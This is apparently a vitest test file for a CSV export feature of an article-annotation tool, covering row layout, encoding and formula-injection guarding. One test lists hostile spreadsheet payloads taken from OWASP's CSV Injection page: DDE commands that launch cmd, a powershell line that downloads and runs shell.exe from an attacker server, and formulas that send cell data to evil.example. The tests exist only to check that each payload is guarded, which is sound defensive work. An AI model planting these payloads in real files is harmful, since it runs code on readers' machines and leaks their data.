import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import {
  CSV_COLUMNS,
  csvField,
  exportCsv,
  isDangerousCell,
  neutraliseFormula,
  spreadsheetCell,
  UTF8_BOM,
} from '../../../src/shared/export/csv'
import { parseCsv } from '../../support/csv-parse'
import {
  hostileInput,
  HOSTILE_CLAIMANT,
  HOSTILE_QUOTE,
  HOSTILE_TITLE,
  makeAnnotation,
  makeArticle,
  oneArticleInput,
  twoArticlesInput,
} from './briefing-fixtures'
import { expectGolden } from './golden'

/** Parse an export back into one object per annotation, keyed by column. */
function rows(csv: string): Record<string, string>[] {
  const [header, ...records] = parseCsv(csv)
  expect(header).toEqual([...CSV_COLUMNS])
  for (const record of records) expect(record).toHaveLength(CSV_COLUMNS.length)
  return records.map((r) => Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]!])))
}

describe('exportCsv golden files', () => {
  it.each([
    ['one-article.csv', oneArticleInput],
    ['two-articles.csv', twoArticlesInput],
    ['hostile-article.csv', hostileInput],
  ] as const)('%s', async (name, input) => {
    await expectGolden(name, exportCsv(input.articles))
  })
})

describe('exportCsv', () => {
  it('writes one row per annotation, articles in order, annotations in document order', () => {
    const parsed = rows(exportCsv(twoArticlesInput.articles))
    expect(parsed.map((r) => [r['article_id'], r['annotation_id']])).toEqual([
      ['art-bmw', 'ann-hl-1'],
      ['art-bmw', 'ann-claim-1'],
      ['art-ria', 'ann-ria-1'],
    ])
    expect(parsed[1]).toEqual({
      article_id: 'art-bmw',
      article_title: 'BMW Maintains Ties With Avtotor Amid Russian Market Uncertainty',
      article_url: 'https://socialbites.ca/economy/bmw-avtotor.html',
      source: 'socialbites.ca',
      published_at: '2024-02-12',
      article_tags: 'entity/company/BMW',
      annotation_id: 'ann-claim-1',
      kind: 'claim',
      quote: 'We have not received any notification about ending the business with Avtotor',
      tags: 'entity/company/Avtotor; topic/localisation',
      statement: 'BMW has not ended its business with Avtotor',
      claimant: 'Ilya Baryshev, BMW representative in Russia',
      claimant_type: '',
      attributed_via: 'socialbites.ca',
      claim_date: '2024-02-12',
      status: 'disputed',
      confidence: 'medium',
      links: 'contradicts: art-ria/ann-ria-1; supports: art-gone/ann-gone',
      note: 'Denial comes from the company itself; no independent confirmation.',
      created_at: '2025-03-02T10:00:00.000Z',
      updated_at: '2025-03-02T10:00:00.000Z',
    })
    // A highlight has no claim columns; a source missing from the metadata comes from the URL.
    expect(parsed[0]).toMatchObject({ kind: 'highlight', claimant: '', status: '', confidence: '' })
    expect(parsed[2]).toMatchObject({ source: 'ria.example', attributed_via: 'RIA Novosti' })
  })

  it('ends every record with CRLF and has no bare LF outside quoted fields', () => {
    const csv = exportCsv(oneArticleInput.articles)
    expect(csv.endsWith('\r\n')).toBe(true)
    // The note with line breaks is the only place an LF appears, inside quotes.
    const outsideQuotes = csv.replace(/"(?:[^"]|"")*"/g, '')
    expect(outsideQuotes).not.toMatch(/(?<!\r)\n/)
    const annotations = oneArticleInput.articles.reduce((n, a) => n + a.annotations.length, 0)
    expect(rows(csv)).toHaveLength(annotations)
  })

  it('reads hostile text back exactly, apart from the formula guard', () => {
    const [row1, row2] = rows(exportCsv(hostileInput.articles))
    expect(row1!['article_title']).toBe(`'${HOSTILE_TITLE}`)
    expect(row1!['quote']).toBe(`'${HOSTILE_QUOTE}`)
    expect(row1!['tags']).toBe('needs review; #already-hashed; 12345')
    // A dash with no formula character after it cannot call anything: left as written.
    expect(row1!['source']).toBe(`---\nsource: injected`)
    expect(row2!['claimant']).toBe(HOSTILE_CLAIMANT)
    expect(row2!['status']).toBe('un|verified')
  })

  it('starts with a byte order mark only when asked', () => {
    expect(exportCsv(oneArticleInput.articles).startsWith(UTF8_BOM)).toBe(false)
    const withBom = exportCsv(oneArticleInput.articles, { bom: true })
    expect(withBom.startsWith(UTF8_BOM)).toBe(true)
    expect(withBom.slice(1)).toBe(exportCsv(oneArticleInput.articles))
    expect(new TextEncoder().encode(withBom).slice(0, 3)).toEqual(
      new Uint8Array([0xef, 0xbb, 0xbf]),
    )
  })

  it('writes only the header when there is nothing to export', () => {
    expect(exportCsv([])).toBe(`${CSV_COLUMNS.join(',')}\r\n`)
    expect(exportCsv([{ article: makeArticle({ id: 'a', title: 'A' }), annotations: [] }])).toBe(
      `${CSV_COLUMNS.join(',')}\r\n`,
    )
  })

  /** The note cell of a one-annotation export, as written in the file. */
  function noteCell(value: string, options: Parameters<typeof exportCsv>[1] = {}): string {
    const csv = exportCsv(
      [
        {
          article: makeArticle({ id: 'a', title: 'A' }),
          annotations: [
            makeAnnotation({ id: 'x', articleId: 'a', exact: 'q', start: 0, note: value }),
          ],
        },
      ],
      options,
    )
    const updated = '2025-03-02T10:00:00.000Z'
    const line = csv.replace(/^\uFEFF/u, '').split('\r\n')[1]!
    const suffix = `,${updated},${updated}`
    expect(line.endsWith(suffix)).toBe(true)
    const record = parseCsv(`${line}\r\n`)[0]!
    return record[record.length - 3]!
  }

  // The payloads of OWASP's "CSV Injection" page and its usual variants:
  // every one must be guarded, in both forms.
  it.each([
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for details")',
    "=cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")A0',
    '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=1+2";=1+2',
    '=1+1',
    '@SUM(A1:A9)',
    "\t=cmd|' /C calc'!A0",
    '\r=1',
    "\n-2+3+cmd|' /C calc'!A0",
    ' =HYPERLINK("http://evil.example")',
    '\0=1',
  ])('guards the payload %j', (payload) => {
    expect(isDangerousCell(payload)).toBe(true)
    expect(noteCell(payload)).toBe(`'${payload}`)
    expect(noteCell(payload, { spreadsheet: true })).toBe(`'${payload}`)
  })

  it.each([
    ['-1 point', '="-1 point"'],
    ['+1 555 0100', '="+1 555 0100"'],
    ['- bullet note', '="- bullet note"'],
    ['-2%', '="-2%"'],
    ['@handle', '="@handle"'],
    ['\tcmd', '\tcmd'],
    ['a = b', 'a = b'],
    ['', ''],
  ])('leaves the harmless %j as written (spreadsheets: %j)', (value, forSpreadsheets) => {
    expect(isDangerousCell(value)).toBe(false)
    expect(noteCell(value)).toBe(value)
    expect(noteCell(value, { spreadsheet: true })).toBe(forSpreadsheets)
  })

  it.each([
    ['false', '="false"'],
    ['TRUE', '="TRUE"'],
    ['2024', '="2024"'],
    ['2024-03', '="2024-03"'],
    ['2024-03-18', '="2024-03-18"'],
    ['18/03/2024', '="18/03/2024"'],
    ['1/2', '="1/2"'],
    ['007', '="007"'],
    ['50%', '="50%"'],
    ['1,234.50', '="1,234.50"'],
    ['1e5', '="1e5"'],
    ['(5)', '="(5)"'],
    ['$12', '="$12"'],
    ['10:30', '="10:30"'],
    ['3 PM', '="3 PM"'],
    ['1.50', '="1.50"'],
    ['1234567890123456789', '="1234567890123456789"'],
    ['Jan 5', '="Jan 5"'],
    [' -1 point', '=" -1 point"'],
    ['Mar 2024', '="Mar 2024"'],
    ['1-Mar', '="1-Mar"'],
    ['2025-03-02T10:00:00.000Z', '2025-03-02T10:00:00.000Z'],
    ['He said "no"', 'He said "no"'],
    ['Decision', 'Decision'],
    ['May the best win', 'May the best win'],
    ['12 "quoted" 34', '12 "quoted" 34'],
  ])('for spreadsheets writes %j as %j, and as written for scripts', (value, forSpreadsheets) => {
    expect(noteCell(value, { spreadsheet: true })).toBe(forSpreadsheets)
    expect(noteCell(value)).toBe(value)
  })

  it('keeps a coercible value too long for a formula, or with a line break, as written', () => {
    expect(spreadsheetCell('0'.repeat(256))).toBe('0'.repeat(256))
    expect(spreadsheetCell('-one\n-two')).toBe('-one\n-two')
    expect(spreadsheetCell('-say hi')).toBe('="-say hi"')
  })

  it('writes a byte order mark for spreadsheets', () => {
    expect(exportCsv(oneArticleInput.articles, { spreadsheet: true }).startsWith(UTF8_BOM)).toBe(
      true,
    )
  })

  it('names linked claims through the resolver, and by ids without one', () => {
    const resolveLink = (link: { annotationId: string }) =>
      link.annotationId === 'ann-ria-1'
        ? { label: '«BMW is leaving Russia» (RIA: BMW leaves)' }
        : null
    const [, claim] = rows(exportCsv(twoArticlesInput.articles, { resolveLink }))
    expect(claim!['links']).toBe(
      'contradicts: «BMW is leaving Russia» (RIA: BMW leaves); supports: art-gone/ann-gone',
    )
    const [, bare] = rows(exportCsv(twoArticlesInput.articles))
    expect(bare!['links']).toBe('contradicts: art-ria/ann-ria-1; supports: art-gone/ann-gone')
  })

  it('round-trips any field through an RFC 4180 parser', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }),
        (fields) => {
          const line = `${fields.map((f) => csvField(neutraliseFormula(f))).join(',')}\r\n`
          expect(parseCsv(line)).toEqual([fields.map(neutraliseFormula)])
        },
      ),
    )
  })
})
